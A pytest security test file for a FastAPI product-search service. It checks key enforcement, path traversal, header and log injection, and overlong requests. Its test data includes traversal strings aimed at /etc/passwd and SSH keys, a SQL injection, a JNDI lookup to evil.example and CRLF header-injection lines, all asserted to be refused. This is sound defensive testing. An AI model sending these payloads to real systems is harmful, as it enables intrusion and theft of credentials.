"""What strangers try: no key, paths that climb, headers that break out, texts that forge a log."""

from __future__ import annotations

import io
import json
import logging
import socket
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi import FastAPI
from starlette.testclient import TestClient

from searcher.http.app import create_app
from searcher.http.telemetry.json_logs import JsonFormatter
from searcher.service import SearchService
from searcher.settings import ServeSettings
from tests.searcher.http.conversation import Keyring, bearer, problem_of, running
from tests.shops.whole_shop import Shop, build_shop

SECRET = "the secret of this machine"


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Shop:
    """A shop with secrets one and two folders above everything that is served."""
    folder = tmp_path_factory.mktemp("shop")
    made = build_shop(folder)
    for place in (folder, folder.parent, folder / "model", made.index.root, folder / "catalog"):
        for name in ("secret.json", "secret.html", "secret.webp", "secret"):
            (place / name).write_text(SECRET)
    return made


def app_over(shop: Shop, **options: Any) -> FastAPI:
    service = SearchService(shop.index)
    settings = ServeSettings(_env_file=None, index=shop.index.root, **{"rate_limit": 0, **options})  # type: ignore[call-arg]
    return create_app(settings, service)


@pytest.fixture(scope="module")
def client(shop: Shop) -> Iterator[TestClient]:
    with TestClient(app_over(shop)) as client:
        yield client


# Keys


def test_every_operation_of_the_document_wants_a_key(shop: Shop, keyring: Keyring) -> None:
    """From the document itself, so that a new route cannot be forgotten."""
    with TestClient(app_over(shop, keys=keyring.file.path)) as client:
        paths = client.get("/openapi.json").json()["paths"]
        asked = [
            (method, path) for path, methods in paths.items() for method in methods if path not in ("/livez", "/readyz")
        ]
        assert len(asked) >= 17
        for method, path in asked:
            place = (
                path.replace("{product_id}", "P001").replace("{sha256}", shop.picture).replace("{name}", "report.html")
            )
            for headers in ({}, bearer("wrong"), {"x-api-key": keyring.admin[:-1]}, {"cookie": f"key={keyring.admin}"}):
                problem_of(client.request(method, place, headers=headers), 401)
            for name in ("key", "token", "api_key"):
                refused = client.request(method, f"{place}?{name}={keyring.admin}")
                problem_of(refused, 400)
                assert keyring.admin not in refused.text
            if path.startswith("/v1/admin/"):
                problem_of(client.request(method, place, headers=bearer(keyring.read)), 403)


# Paths


CLIMBING = (
    "../secret.json",
    "..%2fsecret.json",
    "%2e%2e/secret.json",
    "%2e%2e%2fsecret.json",
    "%252e%252e%252fsecret.json",
    "..%252fsecret.json",
    "..\\secret.json",
    "..%5csecret.json",
    "%2e%2e%5csecret.json",
    "....//secret.json",
    "..%00/secret.json",
    "secret.json%00.png",
    "%c0%ae%c0%ae%c0%afsecret.json",
    "..;/secret.json",
    "/secret.json",
    "//secret.json",
    "%2fetc%2fpasswd",
    "/etc/passwd",
    "....%2f%2fsecret.json",
    "x/../../secret.json",
    "file:%2f%2f%2fetc%2fpasswd",
    "../../../../../../etc/passwd",
    "..%2f" * 12 + "etc%2fpasswd",
    "~root/.ssh/id_rsa",
    "con",
    ".",
    "..",
    "%2e%2e",
    "*",
    "secret%E2%80%AEjson",
)


@pytest.mark.parametrize(
    "base", ["/static/", "/v1/pictures/", "/v1/reports/model/", "/v1/reports/", "/v1/products/", "/"]
)
def test_no_path_leaves_what_is_served(shop: Shop, base: str) -> None:
    """Through a real server, whose parser sees the address as it is sent; clients would tidy it up before."""
    with running(app_over(shop)) as port:
        for climbing in CLIMBING:
            for folder in ("", "model/", shop.picture + "/"):
                with socket.create_connection(("127.0.0.1", port), timeout=30) as connection:
                    target = (base + folder + climbing).encode("utf-8")
                    connection.sendall(b"GET " + target + b" HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
                    with connection.makefile("rb") as file:
                        got = file.read()
                status = int(got.split()[1])
                assert status in (400, 404, 405, 422) or b"/../" in target or got.count(b"<!doctype html>") == 1, target
                assert status < 500
                assert SECRET.encode() not in got
                assert b"root:" not in got


@pytest.mark.parametrize(
    "name",
    [
        "../../secret",
        "/etc/passwd",
        "P001/../P002",
        "..\\secret",
        "\x00",
        "P001\x00",
        "%2e%2e",
        "*",
        "P00?",
        "'; DROP TABLE products; --",
        "${jndi:ldap://evil.example}",
        "{{7*7}}",
    ],
)
def test_a_product_id_is_a_value_and_nothing_else(client: TestClient, name: str) -> None:
    only = {"must": {"key": "product_id", "match": {"value": name}}}
    for body in ({"product_id": name}, {"product_id": "P001", "where": only}):
        got = client.post("/v1/similar", json=body)
        assert got.status_code == (404 if body["product_id"] == name else 200)
        assert SECRET not in got.text
    problem_of(client.get("/v1/products/" + "".join(f"%{byte:02x}" for byte in name.encode())), 404)


def test_a_picture_has_the_name_of_a_hash(client: TestClient, shop: Shop) -> None:
    assert client.get(f"/v1/pictures/{shop.picture}").headers["content-type"] == "image/webp"
    for name in (shop.picture.upper(), shop.picture[:-1], shop.picture + "0", "g" * 64, "٣" * 64, shop.picture + "%0a"):
        problem_of(client.get(f"/v1/pictures/{name}"), 422)
    problem_of(client.get(f"/v1/pictures/{'0' * 64}"), 404)


def test_a_report_runs_no_scripts(client: TestClient) -> None:
    report = client.get("/v1/reports/model/report.html")
    assert report.status_code == 200
    assert "sandbox" in report.headers["content-security-policy"]
    assert "script-src" not in report.headers["content-security-policy"]


# Headers, addresses and logs


@pytest.mark.parametrize(
    "line",
    [
        b"X-Request-ID: a\r\n\tb",
        b"X-Request-ID: a\nX-Evil: 1",
        b"X-Request-ID: a\rX-Evil: 1",
        b"traceparent: 00-\r\n X-Evil: 1",
        b"traceparent: \x00",
        b"X-API-Key: a\rX-Evil: 1",
        b"X-API-Key: a\x00b",
        b"Authorization: Bearer a\nX-Evil: 1",
        b"Origin: https://evil.example\rX-Evil: 1",
        b"X-Forwarded-For: 1.2.3.4\rX-Evil: 1",
        b"X-Evil\x0b: 1",
        b" X-Evil: 1",
        b"X-Long: " + b"a" * 200_000,
        b"\r\n".join(b"X-%d: y" % n for n in range(3000)),
    ],
)
def test_headers_that_are_none(shop: Shop, line: bytes) -> None:
    """The server refuses them, or what it answers holds nothing of them."""
    with running(app_over(shop)) as port:
        head = b"GET /v1/products/P001 HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" + line + b"\r\n\r\n"
        with socket.create_connection(("127.0.0.1", port), timeout=30) as connection:
            try:
                connection.sendall(head)
                with connection.makefile("rb") as file:
                    got = file.read()
            except ConnectionResetError:
                got = b"HTTP/1.1 400 it hung up\r\n"
        assert int(got.split()[1]) in (200, 400, 431)
        assert b"evil" not in got.lower()
        with socket.create_connection(("127.0.0.1", port), timeout=30) as connection:
            connection.sendall(b"GET /livez HTTP/1.1\r\nHost: localhost\r\n\r\n")
            assert connection.recv(100).split()[1] == b"200"


@pytest.mark.parametrize(
    "path",
    [
        "/v1/products/" + "x" * 60_000,
        "/v1/similar?product_id=" + "x" * 60_000,
        "/" + "a/" * 20_000,
        "/v1/similar?" + "&".join(f"a{n}=1" for n in range(900)),
        "/?" + "=" * 10_000,
    ],
    ids=["id", "parameter", "folders", "parameters", "equals signs"],
)
def test_very_long_addresses(client: TestClient, path: str) -> None:
    got = client.get(path)
    assert got.status_code in (200, 400, 404, 414, 422)
    assert path.startswith("/?") or len(got.content) < 5000


LIES = (
    '\n{"level":"error"}',
    "\r\nfake line",
    "\x1b[2J\x1b[31mred",
    "\u2028line",
    "\x00",
    "\u202eevil",
    "\x9b31m",
    "\x7f",
)


def test_logs_hold_no_lies(shop: Shop, keyring: Keyring) -> None:
    """Control characters in ids, filters, paths, agents and keys: the log stays a line of ASCII JSON a request."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(JsonFormatter())
    loggers = [logging.getLogger(name) for name in ("searcher", "indexer", "uvicorn")]
    for logger in loggers:
        logger.addHandler(handler)
    before = loggers[0].level
    loggers[0].setLevel(logging.DEBUG)
    try:
        with TestClient(app_over(shop)) as client, TestClient(app_over(shop, keys=keyring.file.path)) as guarded:
            for lie in LIES:
                encoded = "".join(f"%{byte:02x}" for byte in lie.encode())
                agent = {
                    "user-agent": f"x{lie}".encode(),
                    "x-request-id": lie.encode(),
                    "x-forwarded-for": lie.encode(),
                }
                got = [
                    client.get(f"/v1/products/{encoded}", headers=agent),
                    client.get(f"/{encoded}", headers=agent),
                    client.post("/v1/similar", json={"product_id": f"P{lie}"}),
                    client.get(f"/?{encoded}"),
                    client.post("/v1/similar", json={"product_id": "P001", "where": [f"brand{lie}=x"]}),
                    client.post("/v1/similar", json={"url": f"http://shop.example/{lie}"}),
                    client.post("/v1/similar", json={lie: 1}),
                    client.post("/v1/text", json={"text": lie + "gold"}),
                    guarded.get("/v1/reports", headers={"x-api-key": lie.encode()}),
                ]
                for response in got:
                    assert response.headers["x-request-id"].isascii()
                    if response.status_code >= 400:
                        assert response.json()["detail"].isprintable()
    finally:
        loggers[0].setLevel(before)
        for logger in loggers:
            logger.removeHandler(handler)
    lines = stream.getvalue()
    assert lines.isascii()
    assert lines.replace("\n", "").isprintable()
    records = [json.loads(line) for line in lines.splitlines()]
    assert len([record for record in records if record["message"] == "request"]) == 9 * len(LIES)
    assert not [record for record in records if record["level"] == "error"]
